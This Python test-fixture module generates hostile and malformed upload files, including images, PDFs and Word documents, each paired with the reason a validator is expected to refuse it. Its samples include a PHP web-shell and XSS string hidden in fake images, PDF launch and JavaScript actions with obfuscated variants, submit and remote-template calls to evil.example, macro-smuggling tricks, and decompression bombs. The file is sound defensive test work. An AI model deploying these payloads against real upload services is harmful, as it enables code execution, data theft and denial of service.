"""Files as people and attackers send them, made on the spot."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from typing import Any

from PIL import Image, ImageCms
from PIL.PngImagePlugin import PngInfo

SCRIPT = b"<script>alert('tail')</script><?php system($_GET['c']); ?>"


def gradient(width: int = 320, height: int = 240, mode: str = "RGB") -> Image.Image:
    """Every pixel differs from its neighbours, so that no two makers give the same file."""
    across = Image.linear_gradient("L").rotate(90).resize((width, height))
    down = Image.linear_gradient("L").resize((width, height))
    return Image.merge("RGB", (across, down, Image.new("L", (width, height), 120))).convert(mode)


def encoded(image: Image.Image, file_format: str, **options: Any) -> bytes:
    out = io.BytesIO()
    image.save(out, file_format, **options)
    return out.getvalue()


def jpeg(width: int = 320, height: int = 240, **options: Any) -> bytes:
    return encoded(gradient(width, height), "JPEG", **options)


def png(width: int = 320, height: int = 240, mode: str = "RGB", **options: Any) -> bytes:
    return encoded(gradient(width, height, mode), "PNG", **options)


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_claiming(width: int, height: int) -> bytes:
    """A header that promises `width` × `height` pixels, with 20 kB of data behind it."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(bytes(20_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def webp_claiming(width: int, height: int) -> bytes:
    inner = encoded(gradient(), "WEBP")[12:]
    sides = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBP" + b"VP8X" + struct.pack("<I", 10) + bytes(4) + sides + inner
    return b"RIFF" + struct.pack("<I", len(body)) + body


def png_with_swollen_text() -> bytes:
    swollen = b"comment\0\0" + zlib.compress(bytes(50_000_000), 9)
    whole = png()
    return whole[:33] + chunk(b"zTXt", swollen) + whole[33:]


def png_with_a_broken_middle() -> bytes:
    whole = bytearray(png())
    middle = len(whole) // 2
    whole[middle : middle + 40] = bytes(40)
    return bytes(whole)


def jpeg_of_many_scans() -> bytes:
    """A progressive JPEG whose last scan comes again and again."""
    whole = jpeg(progressive=True)
    last = whole.rindex(b"\xff\xda")
    return whole[:-2] + whole[last:-2] * 200 + b"\xff\xd9"


def moving(file_format: str) -> bytes:
    frames = [gradient(), gradient().rotate(90), gradient().rotate(180)]
    return encoded(frames[0], file_format, save_all=True, append_images=frames[1:], duration=100)


def from_a_phone() -> bytes:
    """A "multi picture" JPEG: the photograph and a second picture behind it."""
    return encoded(gradient(), "MPO", save_all=True, append_images=[gradient(160, 120)])


def heic() -> bytes:
    return struct.pack(">I", 24) + b"ftypheic" + bytes(4) + b"mif1heic" + bytes(200)


def eps() -> bytes:
    return (
        b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 200 200\n%%EndComments\n0 0 moveto\nshowpage\n%%EOF\n"
    )


def exif(orientation: int = 1) -> bytes:
    found = Image.Exif()
    found[0x0112] = orientation
    found[0x010F] = "Secret camera"
    found[0x9286] = "Secret comment"
    found.get_ifd(0x8825).update({1: "N", 2: (42.0, 52.0, 28.0), 3: "E", 4: (74.0, 35.0, 24.0)})
    return found.tobytes()


def text_chunks() -> PngInfo:
    info = PngInfo()
    info.add_text("Author", "Secret author")
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>Secret place</x:xmpmeta>")
    return info


def red_green_profile() -> bytes:
    """A colour profile in which what is written as red means green, and the other way round."""
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return profile.replace(b"rXYZ", b"????", 1).replace(b"gXYZ", b"rXYZ", 1).replace(b"????", b"gXYZ", 1)


def pdf(body: bytes = b"1 0 obj << >> endobj\n") -> bytes:
    return b"%PDF-1.7\n" + body + b"trailer << >>\nstartxref\n0\n%%EOF\n"


def pdf_with(inside: bytes, *, packed: bool = False, more: bytes = b"") -> bytes:
    """With an object of that content; `packed`: in a compressed object stream, where no text search looks."""
    if not packed:
        return pdf(b"1 0 obj\n<< " + inside + b" >>\nendobj\n")
    stream = zlib.compress(b"2 0 << " + inside + b" >>")
    head = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode %s/Length %d" % (more, len(stream))
    return pdf(b"1 0 obj\n<< " + head + b" >>\nstream\n" + stream + b"\nendstream\nendobj\n")


LAUNCHES = b"/Type /Action /S /Launch /F (cmd.exe)"
RUNS = b"/Type /Action /S /JavaScript /JS (app.alert\\(1\\))"
HOLDS = b"/Type /EmbeddedFile"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def relations(kind: str, target: str, *, external: bool = True) -> tuple[str, bytes]:
    mode = ' TargetMode="External"' if external else ""
    row = f'<Relationship Id="rId1" Type="{RELATION}/{kind}" Target="{target}"{mode}/>'
    return "word/_rels/document.xml.rels", f"<Relationships>{row}</Relationships>".encode()


WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"


def archive(parts: Iterable[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in parts:
            packed.writestr(name, content)
    return out.getvalue()


def docx(*more: tuple[str, bytes], main: str = WORD) -> bytes:
    types = f'<Types><Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    return archive([("[Content_Types].xml", types.encode()), ("word/document.xml", b"<w:document/>"), *more])


REFUSED_PICTURES: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing.jpg": (lambda: b"", "empty"),
    "drawing.svg": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "svg"),
    "drawing with a prolog.png": (
        lambda: b'<?xml version="1.0"?><!-- a -->\n<!DOCTYPE svg>\n<SVG></SVG>',
        "svg",
    ),
    "page.jpg": (lambda: b"<!doctype html><html><body>" + SCRIPT, "not_a_picture"),
    "script.php.jpg": (lambda: SCRIPT, "not_a_picture"),
    "still.gif": (lambda: encoded(gradient(), "GIF"), "gif"),
    "moving.gif": (lambda: moving("GIF"), "gif"),
    "gif with a script.gif": (lambda: b"GIF89a/*" + SCRIPT, "gif"),
    "moving.webp": (lambda: moving("WEBP"), "animated"),
    "moving.png": (lambda: moving("PNG"), "animated"),
    "moving.avif": (lambda: moving("AVIF"), "animated"),
    "900 megapixels.png": (lambda: png_claiming(30_000, 30_000), "too_many_pixels"),
    "100 megapixels.png": (lambda: png_claiming(10_000, 10_000), "too_many_pixels"),
    "a little too many.png": (lambda: png_claiming(8_000, 5_001), "too_many_pixels"),
    "268 megapixels.webp": (lambda: webp_claiming(16_383, 16_383), "too_many_pixels"),
    "60 megapixels.webp": (lambda: webp_claiming(10_000, 6_000), "damaged"),
    "missing rows.png": (lambda: png_claiming(3_000, 3_000), "damaged"),
    "cut.jpg": (lambda: jpeg()[:2_000], "damaged"),
    "cut.png": (lambda: png(mode="L")[:-60], "damaged"),
    "cut.webp": (lambda: encoded(gradient(), "WEBP")[:300], "damaged"),
    "cut.avif": (lambda: encoded(gradient(), "AVIF")[:-300], "damaged"),
    "broken middle.png": (png_with_a_broken_middle, "damaged"),
    "swollen text.png": (png_with_swollen_text, "damaged"),
    "many scans.jpg": (jpeg_of_many_scans, "too_many_scans"),
    "start of a jpeg.jpg": (lambda: b"\xff\xd8\xff\xe0", "damaged"),
    "start of a png.png": (lambda: b"\x89PNG\r\n\x1a\n", "damaged"),
    "postscript.jpg": (eps, "not_a_picture"),
    "scan.tiff": (lambda: encoded(gradient(), "TIFF"), "not_a_picture"),
    "paint.bmp": (lambda: encoded(gradient(), "BMP"), "not_a_picture"),
    "icon.ico": (lambda: encoded(gradient(64, 64), "ICO"), "not_a_picture"),
    "pixmap.ppm": (lambda: encoded(gradient(), "PPM"), "not_a_picture"),
    "phone.heic": (heic, "heic"),
    "film.mp4": (lambda: struct.pack(">I", 24) + b"ftypisom" + bytes(400), "not_a_picture"),
    "paper.jpg": (pdf, "document"),
    "letter.docx": (docx, "not_a_picture"),
    "zeros.jpg": (lambda: bytes(5_000), "not_a_picture"),
    "dot.png": (lambda: png(1, 1), "too_small"),
    "line.jpg": (lambda: jpeg(2_000, 20), "too_small"),
    "huge.jpg": (lambda: jpeg() + bytes(20 * 1024 * 1024), "too_large"),
}

REFUSED_DOCUMENTS: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing.pdf": (lambda: b"", "empty"),
    "page.pdf": (lambda: b"<!doctype html>" + SCRIPT + pdf(), "not_a_document"),
    "picture.pdf": (lambda: jpeg(), "not_a_document"),
    "cut.pdf": (lambda: pdf(bytes(5_000))[:-20], "damaged"),
    "archive behind the end.pdf": (
        lambda: pdf() + archive([("evil.jar", bytes(5_000))]) + bytes(1_100),
        "damaged",
    ),
    "script behind the end.pdf": (lambda: pdf() + b" " * 2_000 + SCRIPT, "damaged"),
    "protected.pdf": (lambda: pdf(b"/Encrypt 5 0 R\n"), "encrypted"),
    "script.pdf": (lambda: pdf_with(RUNS), "javascript"),
    "script in disguise.pdf": (lambda: pdf_with(RUNS.replace(b"/JavaS", b"/J#61va#53")), "javascript"),
    "packed script.pdf": (lambda: pdf_with(RUNS, packed=True), "javascript"),
    "program.pdf": (lambda: pdf_with(LAUNCHES, packed=True), "launch"),
    "asks when opened.pdf": (
        lambda: pdf_with(b"/OpenAction << /S /URI /URI (http://evil.example/) >>"),
        "launch",
    ),
    "sends when closed.pdf": (
        lambda: pdf_with(b"/AA << /WC << /S /SubmitForm /F (http://evil.example/) >> >>"),
        "launch",
    ),
    "portfolio.pdf": (lambda: pdf_with(HOLDS), "embedded"),
    "twice packed.pdf": (
        lambda: pdf_with(RUNS, packed=True).replace(b"/FlateDecode", b"[/ASCIIHexDecode /FlateDecode]"),
        "unusual",
    ),
    "predicted.pdf": (
        lambda: pdf_with(RUNS, packed=True, more=b"/DecodeParms << /Predictor 12 >> "),
        "unusual",
    ),
    "pdf and archive.pdf": (lambda: pdf() + archive([("evil.jar", b"x")]) + b"%%EOF", "polyglot"),
    "huge.pdf": (lambda: pdf(bytes(20 * 1024 * 1024)), "too_large"),
    "old word.doc": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(3_000), "not_a_document"),
    "archive.docx": (lambda: archive([("readme.txt", b"hello")]), "not_a_document"),
    "table.docx": (
        lambda: archive([("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"")]),
        "not_a_document",
    ),
    "cut.docx": (lambda: docx()[:-30], "not_a_document"),
    "only a beginning.docx": (lambda: b"PK\x03\x04" + bytes(300), "not_a_document"),
    "macros.docx": (lambda: docx(("word/vbaProject.bin", b"\xcc\x61")), "macros"),
    "macros by type.docx": (lambda: docx(main=MACRO_WORD), "macros"),
    "macros in capitals.docx": (lambda: docx(("WORD/VBAPROJECT.BIN", b"")), "macros"),
    "macros by another name.docx": (lambda: docx(("word/theme.bin", OLE + bytes(600))), "macros"),
    "macros by relation.docx": (
        lambda: docx(relations("vbaProject", "theme.bin", external=False)),
        "macros",
    ),
    "macros in a table.docx": (
        lambda: docx(("word/embeddings/a.xlsx", archive([("xl/theme.bin", OLE)]))),
        "macros",
    ),
    "template from afar.docx": (
        lambda: docx(relations("attachedTemplate", "https://evil.example/a.dotm")),
        "external",
    ),
    "picture from afar.docx": (lambda: docx(relations("image", "https://evil.example/a.png")), "external"),
    "word and pdf.docx": (
        lambda: archive([("%PDF-1.7", b"x")]) + docx(),
        "polyglot",
    ),
    "activex.docx": (lambda: docx(("word/activeX/activeX1.xml", b"")), "macros"),
    "bomb.docx": (lambda: docx(*((f"word/media/{n}.png", bytes(30_000_000)) for n in range(7))), "bomb"),
    "swarm.docx": (lambda: docx(*((f"word/{n}.xml", b"") for n in range(2_100))), "bomb"),
    "text.pdf": (lambda: b"Dear colleagues", "not_a_document"),
}
